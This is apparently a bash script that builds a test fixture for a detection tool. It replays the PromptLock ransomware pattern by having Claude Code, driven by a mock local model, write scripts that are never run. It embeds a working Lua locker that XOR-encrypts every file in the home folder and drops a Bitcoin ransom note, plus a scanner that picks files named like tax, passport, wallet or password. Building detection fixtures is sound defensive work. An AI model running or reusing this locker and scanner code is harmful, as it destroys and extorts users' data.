#!/usr/bin/env bash
# gen-promptlock-fixture.sh: regenerate fixtures/roots/promptlock with a
# REAL Claude Code release against the scripted mock model
# (fixtures/cmd/mockmodel). Not run by CI. Needs root (it creates the
# throwaway home /home/findings-examiner4 and runs the agent as uid 65534 in
# it), node+npm, go, jq, python3, setpriv (util-linux).
#
#   sudo scripts/gen-promptlock-fixture.sh
#
# What it replays (all on loopback, all data fake): the PromptLock shape
# (ESET, August 2025): a local gpt-oss model served by Ollama writes a
# script that walks the user's files and encrypts them.
#   1. ~/.ollama/models/manifests/registry.ollama.ai/library/gpt-oss/20b,
#      the manifest `ollama pull gpt-oss:20b` leaves. SYNTHETIC: ollama is
#      not run here (no model can be pulled offline); the file has the
#      layout of ollama/ollama@fb30760 manifest/manifest.go (schemaVersion,
#      mediaType, config, layers) with made-up digests and sizes.
#   2. Claude Code, run headless with --model gpt-oss:20b against a
#      loopback endpoint (as `ollama launch claude` points it at Ollama's
#      Anthropic-compatible API), told to create ~/vault/lock.lua: a Lua
#      script that walks the home folder, XOR-"encrypts" each file into
#      <file>.locked and renames the original away, plus a ransom note. The
#      script is written, never run. --allowedTools=Write: its guard rails
#      stay on for everything else.
#   3. A second session, same model: an ordinary script (a word count over
#      one file), which must not be flagged.
#   4. The scan phase, as a script: a third session writes ~/vault/scan.lua,
#      Lua that walks the home and writes every file to scan.log and the
#      ones whose names look sensitive to target_file_list.log: the two
#      logs the public analyses of ESET's samples name (scan.log, the
#      file-system inventory; target_file_list.log, the files picked).
#      Written, never run (no Lua here).
#   5. The scan phase, by the shell: a fourth session runs
#      find ~ -type f > ~/vault/scan.log (--allowedTools=Bash); the log it
#      wrote is copied into the root (vault/scan.log), real.
#   6. The host's Ollama server as Ollama's Linux installer sets it up
#      (ollama/ollama@3fa8daa scripts/install.sh, configure_systemd): the
#      system user ollama (home /usr/share/ollama) in etc/passwd,
#      etc/systemd/system/ollama.service, and a drop-in override.conf, as
#      `systemctl edit ollama.service` writes it, moving the models folder
#      with Environment="OLLAMA_MODELS=/data/ollama/models", which holds a
#      gpt-oss:120b manifest. SYNTHETIC (no systemd, no ollama here).
#
# Output (replaced wholesale):
#   fixtures/roots/promptlock/            home/findings-examiner4/{.claude,.claude.json,.ollama,vault}, etc/{hostname,passwd,systemd},
#                                         usr/share/ollama, data/ollama/models
#   fixtures/roots/promptlock.expect.json what was sent and what the mock logged
set -euo pipefail

REPO=$(cd "$(dirname "$0")/.." && pwd)
NAME=promptlock
ROOT_OUT=$REPO/fixtures/roots/$NAME
EXPECT_OUT=$REPO/fixtures/roots/$NAME.expect.json
U=findings-examiner4
EH=/home/$U
PROJ=$EH/vault
RUN_UID=65534
MODEL=gpt-oss:20b
WORK=${WORK:-$(mktemp -d /var/tmp/gen-promptlock.XXXXXX)}
chmod 755 "$WORK"

[ "$(id -u)" = 0 ] || { echo "run as root (creates $EH)" >&2; exit 1; }
if [ -e "$EH" ] && [ ! -e "$EH/.doubleagent-fixture-home" ]; then
  echo "$EH exists and was not made by this script; refusing to touch it" >&2; exit 1
fi
log() { printf '[gen-pl] %s\n' "$*" >&2; }
# shellcheck source=lib/fixturegen.sh
. "$REPO/scripts/lib/fixturegen.sh"

log "work dir $WORK"
install_claude

start_mock
trap 'kill $MOCK_PID 2>/dev/null || true' EXIT

# ------------------------------------------------------------------ the home
rm -rf "$EH"
mkdir -p "$PROJ" "$EH/Documents"
touch "$EH/.doubleagent-fixture-home"
printf 'quarterly figures (fake)\n' >"$EH/Documents/q3.txt"
printf 'notes\n' >"$PROJ/README.md"
# 1. The model manifest (synthetic, see above).
MAN=$EH/.ollama/models/manifests/registry.ollama.ai/library/gpt-oss
mkdir -p "$MAN"
d() { printf 'sha256:%s' "$(printf 'doubleagent-fixture %s' "$1" | sha256sum | cut -d' ' -f1)"; }
cat >"$MAN/20b" <<EOF
{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{"mediaType":"application/vnd.docker.container.image.v1+json","digest":"$(d config)","size":489},"layers":[{"mediaType":"application/vnd.ollama.image.model","digest":"$(d model)","size":13780154624},{"mediaType":"application/vnd.ollama.image.license","digest":"$(d license)","size":11353},{"mediaType":"application/vnd.ollama.image.template","digest":"$(d template)","size":7240},{"mediaType":"application/vnd.ollama.image.params","digest":"$(d params)","size":18}]}
EOF
touch -d 2026-11-30T08:00:00Z "$MAN/20b"
chown -R "$RUN_UID:$RUN_UID" "$EH"

# run_claude SID PROMPT FLAG...: one headless Claude Code run in ~/vault.
run_claude() { claude_run "$PROJ" "$1" "$2" --model "$MODEL" "${@:3}"; }

# 2. The locker script. No backquote may appear in it (the mock's prompt
#    syntax quotes it with them).
LOCK='-- lock.lua: generated
local lfs = require("lfs")
local home = os.getenv("HOME")
local key = "k3y-doubleagent-fixture"
local function walk(dir, out)
  for name in lfs.dir(dir) do
    if name ~= "." and name ~= ".." then
      local p = dir .. "/" .. name
      local a = lfs.attributes(p)
      if a and a.mode == "directory" then walk(p, out) else out[#out + 1] = p end
    end
  end
  return out
end
local function encrypt(data)
  local o = {}
  for i = 1, #data do
    local k = key:byte((i - 1) % #key + 1)
    o[i] = string.char(data:byte(i) ~ k)
  end
  return table.concat(o)
end
for _, p in ipairs(walk(home, {})) do
  local f = io.open(p, "rb")
  if f then
    local data = f:read("a"); f:close()
    local w = io.open(p .. ".locked", "wb"); w:write(encrypt(data)); w:close()
    os.rename(p, p .. ".orig")
  end
end
local n = io.open(home .. "/README_RESTORE.txt", "w")
n:write("Your files are encrypted. Send 0.1 BTC to restore them.\n"); n:close()'
SID=$(uuid)
P=$(PROMPT_WRITE "$PROJ/lock.lua" "$LOCK")
T0=$(now)
run_claude "$SID" "$P" --allowedTools=Write
T1=$(now)
RC1=$RC
log "claude (locker) exit $RC"

# 3. An ordinary script, same model.
COUNT='-- count.lua: count the words of one file
local f = assert(io.open(arg[1], "r"))
local n = 0
for _ in f:read("a"):gmatch("%S+") do n = n + 1 end
f:close()
print(n)'
SID2=$(uuid)
P2=$(PROMPT_WRITE "$PROJ/count.lua" "$COUNT")
T20=$(now)
run_claude "$SID2" "$P2" --allowedTools=Write
T21=$(now)
RC2=$RC
log "claude (ordinary) exit $RC"
# 4. The scan phase as a script.
SCAN='-- scan.lua: generated
local lfs = require("lfs")
local home = os.getenv("HOME")
local log = io.open(home .. "/vault/scan.log", "w")
local picked = io.open(home .. "/vault/target_file_list.log", "w")
local words = { "tax", "passport", "invoice", "q3", "wallet", "password" }
local function walk(dir)
  for name in lfs.dir(dir) do
    if name ~= "." and name ~= ".." then
      local p = dir .. "/" .. name
      local a = lfs.attributes(p)
      if a and a.mode == "directory" then
        walk(p)
      elseif a then
        log:write(p, " ", a.size, "\n")
        for _, w in ipairs(words) do
          if name:lower():find(w, 1, true) then picked:write(p, "\n") break end
        end
      end
    end
  end
end
walk(home)
log:close()
picked:close()'
SID3=$(uuid)
P3=$(PROMPT_WRITE "$PROJ/scan.lua" "$SCAN")
T30=$(now)
run_claude "$SID3" "$P3" --allowedTools=Write
T31=$(now)
RC3=$RC
log "claude (scan script) exit $RC"

# 5. The scan phase by the shell.
SID4=$(uuid)
P4=$(PROMPT_CMD "find ~ -type f > ~/vault/scan.log")
T40=$(now)
run_claude "$SID4" "$P4" --allowedTools=Bash
T41=$(now)
RC4=$RC
log "claude (scan by find) exit $RC"
kill $MOCK_PID 2>/dev/null || true
cd /

# ------------------------------------------------------------------ copy + sanitize
rm -rf "$ROOT_OUT"
mkdir -p "$ROOT_OUT/home/$U" "$ROOT_OUT/etc"
printf 'fixture-host-pl\n' >"$ROOT_OUT/etc/hostname"
# 6. The Ollama server of the host (synthetic, see above).
printf 'root:x:0:0:root:/root:/bin/bash\n%s:x:1004:1004::/home/%s:/bin/bash\nollama:x:998:998::/usr/share/ollama:/bin/false\n' "$U" "$U" >"$ROOT_OUT/etc/passwd"
mkdir -p "$ROOT_OUT/etc/systemd/system/ollama.service.d" "$ROOT_OUT/usr/share/ollama/.ollama"
cat >"$ROOT_OUT/etc/systemd/system/ollama.service" <<UNIT
[Unit]
Description=Ollama Service
After=network-online.target

[Service]
ExecStart=/usr/local/bin/ollama serve
User=ollama
Group=ollama
Restart=always
RestartSec=3
Environment="PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"

[Install]
WantedBy=default.target
UNIT
printf '[Service]\nEnvironment="OLLAMA_MODELS=/data/ollama/models"\n' >"$ROOT_OUT/etc/systemd/system/ollama.service.d/override.conf"
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGRvdWJsZWFnZW50LWZpeHR1cmUtb2xsYW1hLWtleQ ollama-fixture\n' >"$ROOT_OUT/usr/share/ollama/.ollama/id_ed25519.pub"
MAN2=$ROOT_OUT/data/ollama/models/manifests/registry.ollama.ai/library/gpt-oss
mkdir -p "$MAN2"
cat >"$MAN2/120b" <<MANIFEST
{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{"mediaType":"application/vnd.docker.container.image.v1+json","digest":"$(d config-120b)","size":489},"layers":[{"mediaType":"application/vnd.ollama.image.model","digest":"$(d model-120b)","size":65369818624},{"mediaType":"application/vnd.ollama.image.license","digest":"$(d license)","size":11353},{"mediaType":"application/vnd.ollama.image.template","digest":"$(d template)","size":7240},{"mediaType":"application/vnd.ollama.image.params","digest":"$(d params)","size":18}]}
MANIFEST
for p in .claude .claude.json .ollama vault Documents; do
  [ -e "$EH/$p" ] && cp -a "$EH/$p" "$ROOT_OUT/home/$U/"
done
chown -R 0:0 "$ROOT_OUT"
python3 "$REPO/scripts/lib/sanitize-claude-home.py" "$ROOT_OUT/home/$U" 'doubleagent' 'lock.lua' 'count.lua' 'scan.lua' 'scan.log'

# ------------------------------------------------------------------ expect.json
python3 - "$MOCKLOG" "$EXPECT_OUT" "$P" "$P2" "$P3" "$P4" <<PY
import json, sys
mock, out, p1, p2, p3, p4 = sys.argv[1:]
ev = [e for e in (json.loads(l) for l in open(mock)) if e.get("kind") == "event"]
calls = [{k: e[k] for k in ("tool", "id", "command", "path") if k in e} for e in ev if e["api"] == "anthropic" and e["action"] == "tool_call"]
json.dump({
  "generated_by": "scripts/gen-promptlock-fixture.sh",
  "root": "$NAME", "hostname": "fixture-host-pl", "user": "$U", "home": "$EH", "project_dir": "$PROJ",
  "model": "$MODEL",
  "synthetic": ["$EH/.ollama/models/manifests/registry.ollama.ai/library/gpt-oss/20b", "/etc/passwd", "/etc/systemd/system/ollama.service",
                "/etc/systemd/system/ollama.service.d/override.conf", "/usr/share/ollama/.ollama/id_ed25519.pub",
                "/data/ollama/models/manifests/registry.ollama.ai/library/gpt-oss/120b"],
  "claude-code": {
    "package": "@anthropic-ai/claude-code", "version": "$V_CLAUDE",
    "scenarios": [{
      "scenario": "locker-script", "session_id": "$SID", "prompt": p1,
      "command_line": "claude -p PROMPT --session-id $SID --model $MODEL --allowedTools=Write",
      "started_utc": "$T0", "ended_utc": "$T1", "exit_code": $RC1,
    }, {
      "scenario": "ordinary-script", "session_id": "$SID2", "prompt": p2,
      "command_line": "claude -p PROMPT --session-id $SID2 --model $MODEL --allowedTools=Write",
      "started_utc": "$T20", "ended_utc": "$T21", "exit_code": $RC2,
    }, {
      "scenario": "scan-script", "session_id": "$SID3", "prompt": p3,
      "command_line": "claude -p PROMPT --session-id $SID3 --model $MODEL --allowedTools=Write",
      "started_utc": "$T30", "ended_utc": "$T31", "exit_code": $RC3,
    }, {
      "scenario": "scan-by-find", "session_id": "$SID4", "prompt": p4,
      "command_line": "claude -p PROMPT --session-id $SID4 --model $MODEL --allowedTools=Bash",
      "started_utc": "$T40", "ended_utc": "$T41", "exit_code": $RC4,
    }],
    "mock": {"tool_calls": calls},
  },
}, open(out, "w"), indent=2, ensure_ascii=False)
open(out, "a").write("\n")
PY
du -sh "$ROOT_OUT" >&2
log "done; mock log: $MOCKLOG; agent output: $WORK/runs"
